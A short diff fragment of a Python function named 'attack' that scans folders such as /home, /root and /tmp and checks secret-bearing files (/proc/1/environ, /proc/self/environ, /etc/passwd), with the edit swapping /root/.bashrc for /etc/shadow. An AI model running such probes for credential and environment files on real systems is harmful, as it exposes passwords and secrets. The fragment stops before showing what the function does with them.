@@ -9,7 +9,7 @@ import sys
 def attack(*_):
     found = []
     for folder in (
-        "/work",
+        "/opt",
         "/home",
         "/root",
         "/tmp",
@@ -24,7 +24,7 @@ def attack(*_):
     for path in (
         "/proc/1/environ",
         "/proc/self/environ",
-        "/root/.bashrc",
+        "/etc/shadow",
         "/etc/passwd",
     ):
         if os.path.exists(path):
